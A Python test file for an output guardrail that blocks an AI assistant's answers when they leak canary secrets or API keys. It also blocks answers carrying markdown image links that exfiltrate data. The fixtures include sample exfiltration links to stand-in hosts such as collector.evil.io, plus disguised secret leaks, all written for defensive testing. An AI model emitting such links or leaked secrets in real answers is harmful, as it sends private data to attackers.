"""OutputFilter: block leaking answers and exfiltration links, pass ordinary answers."""

from __future__ import annotations

import base64
import random

import pytest

from ragward.engine.detectors.canary import new_canary
from ragward.guardrails import OutputFilter
from ragward.model import Action, Layer

CANARY = new_canary(random.Random(23))
FILTER = OutputFilter(allowed_hosts=["docs.example.com"])


@pytest.mark.parametrize(
    "answer",
    [
        "Refunds are processed within 14 days. See [the policy](https://docs.example.com/refunds).",
        "![logo](https://docs.example.com/static/logo.png) Reset MFA under Settings → Security.",
        "I can't share internal codes, but support can help at help@example.com.",
        "Les remboursements sont traités sous 14 jours.",
        "Use colour #1a2b3c; ticket 550e8400-e29b-41d4-a716-446655440000 is closed.",
    ],
)
def test_benign_answers_are_allowed(answer: str) -> None:
    decision = FILTER.check(answer, secrets=[CANARY, "sk-live-4f9a8b7c6d5e4f3a2b1c"])
    assert decision.action is Action.ALLOW, [e.reason for e in decision.events]
    assert decision.text == answer
    assert decision.events == []


@pytest.mark.parametrize(
    "answer",
    [
        f"The code is {CANARY}.",
        f"I can't share it, although it is {CANARY.lower()}",
        f"Encoded: {base64.b64encode(CANARY.encode()).decode()}",
        f"Part of it: {CANARY[3:12]}",
        " ".join(CANARY),
    ],
)
def test_answers_leaking_the_canary_are_blocked(answer: str) -> None:
    decision = FILTER.check(answer, secrets=[CANARY])
    assert decision.action is Action.BLOCK
    assert decision.text == OutputFilter.refusal
    assert CANARY not in decision.text
    event = decision.events[0]
    assert event.guardrail == "output_filter"
    assert event.layer is Layer.OUTPUT
    assert event.reason.startswith("secret_leak:")
    assert CANARY not in event.reason  # masked
    assert event.span is not None


def test_exfiltration_link_is_blocked_with_its_span() -> None:
    answer = "Done! ![](https://collector.evil.io/p.png?d=refunds)"
    decision = FILTER.check(answer)
    assert decision.action is Action.BLOCK
    (event,) = decision.events
    assert event.reason.startswith("exfiltration_link:")
    assert "collector.evil.io" in event.reason
    assert event.span is not None
    assert answer[event.span[0] : event.span[1]].startswith("![](")


def test_canary_inside_a_link_gives_two_events_and_is_masked() -> None:
    decision = FILTER.check(f"[more](https://evil.io/x?c={CANARY})", secrets=[CANARY])
    kinds = sorted(e.reason.split(":")[0] for e in decision.events)
    assert kinds == ["exfiltration_link", "secret_leak"]
    assert all(CANARY not in e.reason for e in decision.events)


def test_other_secrets_and_letter_only_fragments() -> None:
    key = "sk-live-4f9a8b7c6d5e4f3a2b1c"
    assert FILTER.check(f"The key is {key}", secrets=[key]).action is Action.BLOCK
    assert FILTER.check("The key starts 4f9a8b7c6d5e", secrets=[key]).action is Action.BLOCK
    assert FILTER.check("We use the staging 4 cluster.", secrets=["sk-acme-staging-4f9a2c7e1b8d0a63"]).allowed
    word_secret = "passwordmanager2024x"
    # "password" is an 8-letter fragment of the secret, but an ordinary word.
    assert FILTER.check("Use a password manager.", secrets=[word_secret]).action is Action.ALLOW


def test_secret_candidates() -> None:
    document = (
        f"Internal only. Canary {CANARY}. API key sk-proj-Ab3dEf6hIj9kLm2nOp5q, AWS AKIAIOSFODNN7EXAMPLE, "
        "GitHub ghp_1234567890abcdefghijABCDEFGHIJ123456, session a8f3k2j9d7s6h5g4. "
        "Invoice INV-2024-00123, ISO-27001 compliance-2024 and the word international."
    )
    found = OutputFilter.secret_candidates(document)
    assert found[0] == CANARY
    for expected in (
        "sk-proj-Ab3dEf6hIj9kLm2nOp5q",
        "AKIAIOSFODNN7EXAMPLE",
        "ghp_1234567890abcdefghijABCDEFGHIJ123456",
        "a8f3k2j9d7s6h5g4",
    ):
        assert expected in found
    for not_secret in ("INV-2024-00123", "compliance-2024", "international", "ISO-27001"):
        assert not_secret not in found
    assert OutputFilter.secret_candidates("no secrets here at all") == []


def test_bad_input() -> None:
    with pytest.raises(TypeError):
        FILTER.check(None)  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        FILTER.check("x", secrets=CANARY)
    with pytest.raises(ValueError, match="shorter"):
        FILTER.check("x", secrets=["abc"])
    with pytest.raises(TypeError):
        OutputFilter(allowed_hosts="docs.example.com")
    assert OutputFilter.name == "output_filter"
    assert OutputFilter.layer is Layer.OUTPUT
